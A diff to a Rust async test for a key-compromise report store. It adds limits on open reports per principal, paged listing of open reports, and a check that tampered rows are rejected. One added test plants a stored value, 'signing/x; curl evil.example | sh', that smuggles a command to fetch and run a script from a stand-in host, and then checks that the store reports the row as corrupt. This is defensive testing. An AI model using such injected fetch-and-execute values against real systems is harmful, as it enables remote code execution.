@@ -18,7 +18,7 @@ fn row(number: u32, received: i64) -> CompromiseRow {
         id: format!("cr_{number:032}"),
         principal: "scanner".to_owned(),
         report: number.to_string(),
-        asset: "external/partner".to_owned(),
+        asset: "external/partner".parse().unwrap(),
         key_type: "api_key".to_owned(),
         kid: None,
         source: "a repository".to_owned(),
@@ -33,7 +33,7 @@ fn row(number: u32, received: i64) -> CompromiseRow {
 fn filed(row: &CompromiseRow) -> Change {
     Change::ReportCompromise {
         row: Box::new(row.clone()),
-        most: 2,
+        most: MostReports { a_day: 2, open: 3 },
     }
 }
 
@@ -51,10 +51,18 @@ pub async fn reports_are_kept_once_bounded_and_decided_once(place: Place) {
     assert_eq!(store.leaves(0, 100).await.unwrap().len(), size + 2);
     let counted = store.compromise_reports_of_day("scanner", at(5)).await;
     assert_eq!(counted.unwrap(), 2);
+    // Nor more than so many that wait, on whichever day.
+    let fourth = commit(&filed(&row(4, 2 * DAY))).await;
+    assert!(matches!(fourth, Err(Error::Already { .. })), "{fourth:?}");
+    assert_eq!(
+        store.open_compromise_reports_of("scanner").await.unwrap(),
+        3
+    );
     let decision = CompromiseDecision {
         at: at(DAY),
         by: "olga".to_owned(),
         reason: "a test key".to_owned(),
+        is_declared: false,
         rotation: None,
     };
     let decide = |decision: &CompromiseDecision| Change::DecideCompromise {
@@ -63,6 +71,7 @@ pub async fn reports_are_kept_once_bounded_and_decided_once(place: Place) {
     };
     commit(&decide(&decision)).await.unwrap();
     let declared = CompromiseDecision {
+        is_declared: true,
         rotation: Some("kr_1".to_owned()),
         ..decision.clone()
     };
@@ -73,11 +82,25 @@ pub async fn reports_are_kept_once_bounded_and_decided_once(place: Place) {
         ..row(1, 0)
     };
     assert_eq!(kept, Some(expected));
-    let open = store.open_compromise_reports("", 10).await.unwrap();
-    assert_eq!(open, [row(2, 2), row(3, DAY)]);
+    let open = async |at, limit| {
+        let rows = store.open_compromise_reports(at, limit).await.unwrap();
+        let ids = rows.read.into_iter().map(|row| row.id);
+        (ids.collect::<Vec<String>>(), rows.unreadable.len())
+    };
+    let both = (vec![row(3, 0).id, row(2, 0).id], 0);
+    assert_eq!(open((i64::MAX, ""), 10).await, both);
+    let last = row(3, DAY);
+    let behind = (last.received_at.millis(), last.id.as_str());
+    assert_eq!(open(behind, 10).await, (vec![row(2, 0).id], 0));
     let page = store.compromise_reports_before((i64::MAX, ""), 2).await;
     let ids: Vec<String> = page.unwrap().into_iter().map(|row| row.id).collect();
     assert_eq!(ids, [row(3, 0).id, row(2, 0).id]);
+    // What becomes part of a command is what it says it is; one that is not hides no other.
+    let forged = "UPDATE compromise_report SET asset = 'signing/x; curl evil.example | sh' WHERE report = '2'";
+    place.raw(forged).await.unwrap();
+    assert_eq!(open((i64::MAX, ""), 10).await, (vec![row(3, 0).id], 1));
+    let read = store.compromise_report(&row(2, 0).id).await;
+    assert!(read.is_err_and(|error| error.is_corrupt()));
     for undo in [
         "DELETE FROM compromise_report",
         "UPDATE compromise_report SET decision = 'no' WHERE state = 'dismissed'",
